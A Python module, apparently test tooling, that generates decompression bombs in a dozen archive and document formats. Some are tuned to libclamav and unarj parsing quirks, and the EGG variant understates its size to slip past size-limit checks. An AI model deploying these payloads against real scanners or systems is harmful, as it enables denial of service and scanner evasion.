"""bombs -- decompression bombs built in well under a second (no gigabyte is ever compressed)."""
import bz2
import functools
import lzma
import zlib

_BZ_BLOCK_ZEROS = 179996 * 255      # zeros whose RLE1 form fills one 900 kB bzip2 block exactly
_BZ_END = 0x177245385090


def _bits(data):
    return "".join(f"{b:08b}" for b in data)


@functools.lru_cache(maxsize=None)
def _bz_block():
    """(bits of one bzip2 block of zeros, its CRC, bytes it expands to)."""
    s = _bits(bz2.compress(bytes(_BZ_BLOCK_ZEROS), 9))
    for pad in range(8):
        end = len(s) - pad - 80
        if int(s[end:end + 48], 2) == _BZ_END:
            block = s[32:end]
            assert int(block[:48], 2) == 0x314159265359
            return block, int(block[48:80], 2), _BZ_BLOCK_ZEROS
    raise AssertionError("no bzip2 end marker")


def bzip2_bomb(size):
    """One bzip2 stream expanding to at least size zero bytes (about 35 bytes per 44 MiB)."""
    block, crc, per = _bz_block()
    n = max(1, -(-size // per))
    combined = 0
    for _ in range(n):
        combined = ((combined << 1) | (combined >> 31)) & 0xFFFFFFFF
        combined ^= crc
    s = _bits(b"BZh9") + block * n + f"{_BZ_END:048b}" + f"{combined:032b}"
    s += "0" * (-len(s) % 8)
    return int(s, 2).to_bytes(len(s) // 8, "big")


_CHUNK = 1 << 24


@functools.lru_cache(maxsize=None)
def _deflate_chunk():
    """Raw deflate of _CHUNK zeros ending in a full flush: it does not refer back, so copies of it
    in a row are a valid stream of that many chunks."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    c.compress(bytes(_CHUNK))
    c.flush(zlib.Z_FULL_FLUSH)
    chunk = c.compress(bytes(_CHUNK)) + c.flush(zlib.Z_FULL_FLUSH)
    return chunk, c.flush()


def deflate_bomb(size):
    """(raw deflate stream, bytes it expands to: size rounded up to 16 MiB)."""
    chunk, end = _deflate_chunk()
    n = max(1, -(-size // _CHUNK))
    return chunk * n + end, n * _CHUNK


def gzip_bomb(size):
    """A gzip member of zero bytes (about 1 KB per MiB: deflate's limit is 1032:1)."""
    import struct
    data, size = deflate_bomb(size)
    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + data +
            struct.pack("<II", _zeros_crc(size), size & 0xFFFFFFFF))


_LZMA2_CHUNK = 1 << 20    # bytes in one LZMA2 chunk (the encoder splits 2 MiB in two)


@functools.lru_cache(maxsize=None)
def _lzma2_chunk():
    """One raw LZMA2 chunk of 1 MiB zeros that resets the dictionary: copies of it in a row are a
    valid LZMA2 stream."""
    raw = lzma.compress(bytes(_LZMA2_CHUNK), lzma.FORMAT_RAW,
                        filters=[{"id": lzma.FILTER_LZMA2, "preset": 0, "dict_size": 1 << 20}])
    # control (dictionary reset, new properties), unpacked - 1, packed - 1, properties, data, end
    assert raw[0] & 0xE0 == 0xE0 and len(raw) == 6 + (raw[3] << 8 | raw[4]) + 1 + 1, raw[:6]
    return raw[:-1]


def _varint(n):
    out = bytearray()
    while True:
        out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)


def xz_bomb(size):
    """One .xz stream (one block, no check) of zero bytes: size rounded up to 1 MiB."""
    import struct
    n = max(1, -(-size // _LZMA2_CHUNK))
    data = _lzma2_chunk() * n + b"\x00"
    flags = b"\x00\x00"
    header = b"\xfd7zXZ\x00" + flags + struct.pack("<I", zlib.crc32(flags))
    bh = b"\x02\x00\x21\x01\x10\x00\x00\x00"     # 12 bytes, LZMA2, dictionary 1 MiB
    bh += struct.pack("<I", zlib.crc32(bh))
    block = bh + data + bytes(-len(data) % 4)
    index = b"\x00" + _varint(1) + _varint(len(bh) + len(data)) + _varint(n * _LZMA2_CHUNK)
    index += bytes(-len(index) % 4)
    index += struct.pack("<I", zlib.crc32(index))
    back = struct.pack("<I", len(index) // 4 - 1) + flags
    footer = struct.pack("<I", zlib.crc32(back)) + back + b"YZ"
    return header + block + index + footer


def _zeros_crc(size, chunk=1 << 24):
    crc, zero = 0, bytes(chunk)
    while size > 0:
        crc = zlib.crc32(zero[:min(chunk, size)], crc)
        size -= chunk
    return crc


def zip_bomb(size, method="bzip2"):
    """A zip of one member of size zero bytes, stored with method (bzip2: 12, deflate: 8) without a
    data descriptor: libclamav's unz() unpacks it in one loop."""
    import struct
    if method == "bzip2":
        data, code = bzip2_bomb(size), 12
        size = -(-size // _BZ_BLOCK_ZEROS) * _BZ_BLOCK_ZEROS
    else:
        (data, size), code = deflate_bomb(size), 8
    crc, name = _zeros_crc(size), b"zeros"
    local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 46, 0, code, 0, 0, crc, len(data),
                        min(size, 0xFFFFFFFF), len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 46, 46, 0, code, 0, 0, crc,
                          len(data), min(size, 0xFFFFFFFF), len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(central),
                      len(local) + len(data), 0)
    return local + data + central + end


# Other formats (patch 0133): each a few bytes to ~2 MB, built without compressing a gigabyte.

def cab_bomb(size):
    """A cabinet of one file of size zero bytes (rounded up to 32 KiB, at most 2 GiB) in one MSZIP
    folder: CFDATA blocks of 32 KiB each (no checksums), about 1.7 MB per GiB."""
    import struct
    n = -(-size // 32768)
    assert n <= 0xFFFF
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    blk = b"CK" + c.compress(bytes(32768)) + c.flush()
    data = struct.pack("<IHH", 0, len(blk), 32768) + blk
    name = b"zeros\0"
    first = 36 + 8 + 16 + len(name)
    head = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, first + len(data) * n, 0, 44, 0, 3, 1, 1, 1, 0,
                       0x1234, 0)
    folder = struct.pack("<IHH", first, n, 1)            # 1: MSZIP
    member = struct.pack("<IIHHHH", n * 32768, 0, 0, 0, 0, 0x20) + name
    return head + folder + member + data * n


def _arj_header(fixed, name):
    import struct
    basic = fixed + name + b"\0\0"                       # name, empty comment
    return b"\x60\xea" + struct.pack("<H", len(basic)) + basic + struct.pack("<I", zlib.crc32(basic)) + b"\0\0"


def arj_bomb(size):
    """An ARJ archive (101 bytes) of one method-4 member of size bytes without compressed data:
    unarj's bit reader gives zeros past a member's data, which method 4 decodes to zero bytes."""
    import struct
    main = struct.pack("<8B4I3H", 30, 11, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0)
    member = struct.pack("<8B4I3H", 30, 11, 1, 0, 0, 4, 0, 0, 0, 0, size, 0, 0, 0, 0)
    return _arj_header(main, b"bomb.arj") + _arj_header(member, b"zeros") + b"\x60\xea\0\0"


def egg_bomb(size, declared=4096):
    """An EGG archive of one file whose one deflate block expands to size zeros (rounded up to 16 MiB);
    its headers say `declared` bytes (what libclamav checks against its limits first)."""
    import struct
    data, _ = deflate_bomb(size)
    eof = struct.pack("<I", 0x08E28222)
    return (struct.pack("<IHII", 0x41474745, 0x0100, 0x12345678, 0) + eof +
            struct.pack("<IIQ", 0x0A8590E3, 0, declared) +
            struct.pack("<IBH", 0x0A8591AC, 0, 5) + b"zeros" + eof +
            struct.pack("<IBBIII", 0x02B50C13, 1, 0, declared, len(data), 0) + eof + data + eof)


def xar_bomb(size):
    """A xar archive of one file whose zlib ("application/x-gzip") data is size zeros (16 MiB steps)."""
    import struct
    data, size = deflate_bomb(size)
    z = b"\x78\x9c" + data
    toc = (b'<?xml version="1.0" encoding="UTF-8"?>\n<xar><toc><file id="1"><data><length>%d</length>'
           b'<offset>0</offset><size>%d</size><encoding style="application/x-gzip"/></data>'
           b'<name>zeros</name><type>file</type></file></toc></xar>\n' % (len(z), size))
    ztoc = zlib.compress(toc)
    return struct.pack(">IHHQQI", 0x78617221, 28, 1, len(ztoc), len(toc), 0) + ztoc + z


@functools.lru_cache(maxsize=None)
def nsis_bomb(size, solid=True):
    """An "MZ" file holding an NSIS archive (zlib: raw deflate) of a 16-byte header block and one file
    of size zero bytes: solid (one stream, each item after its size) or not (each item its own
    stream). NSIS's inflate takes no stored block, so this one compresses the zeros (level 1: about
    0.4 s and 1.1 MB per 256 MiB)."""
    import struct
    zero = bytes(min(size, _CHUNK))

    def deflate(head, n):
        c = zlib.compressobj(1, zlib.DEFLATED, -15)
        out = [c.compress(head)]
        while n > 0:
            out.append(c.compress(zero[:min(n, len(zero))]))
            n -= len(zero)
        return b"".join(out) + c.flush()
    if solid:
        data = deflate(struct.pack("<I", 16) + bytes(16) + struct.pack("<I", size), size)
    else:
        items = [deflate(bytes(16), 0), deflate(b"", size)]
        data = b"".join(struct.pack("<I", 0x80000000 | len(i)) + i for i in items)
    first = struct.pack("<II", 0, 0xDEADBEEF) + b"NullsoftInst" + struct.pack("<II", 0x1c, 0x1c + len(data))
    return b"MZ" + bytes(62) + first + data


def pdf_bomb(size):
    """A PDF of one FlateDecode stream of size zeros (16 MiB steps)."""
    data, _ = deflate_bomb(size)
    z = b"\x78\x9c" + data
    body = (b"%PDF-1.4\n1 0 obj\n<< /Length " + str(len(z)).encode() + b" /Filter /FlateDecode >>\nstream\n" +
            z + b"\nendstream\nendobj\n")
    return (body + b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<< /Size 2 >>\n"
            b"startxref\n" + str(len(body)).encode() + b"\n%%EOF\n")


def dmg_bomb(size):
    """A DMG (1.7 KB) of one partition: one stored sector, then size zero bytes (512-byte steps) in
    one zero-fill stripe, which takes no input at all."""
    import base64
    import struct
    sectors = size // 512
    mish = struct.pack(">IIQQQII24s136sI", 0x6d697368, 1, 0, sectors + 1, 0, 0, 0, bytes(24), bytes(136), 3)
    mish += struct.pack(">IIQQQQ", 1, 0, 0, 1, 0, 512)                   # stored
    mish += struct.pack(">IIQQQQ", 2, 0, 1, sectors, 0, 0)               # zero fill
    mish += struct.pack(">IIQQQQ", 0xFFFFFFFF, 0, sectors + 1, 0, 0, 0)  # end
    xml = (b'<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict><key>resource-fork</key>'
           b'<dict><key>blkx</key><array><dict><key>Attributes</key><string>0x0050</string>'
           b'<key>Data</key><data>' + base64.b64encode(mish) + b'</data><key>Name</key><string>z</string>'
           b'</dict></array></dict></dict></plist>\n')
    koly = struct.pack(">4sIII", b"koly", 4, 512, 1) + bytes(8 * 5 + 8 + 16 + 136) + struct.pack(">QQ", 512, len(xml))
    return b"\x01" * 512 + xml + koly + bytes(512 - len(koly))
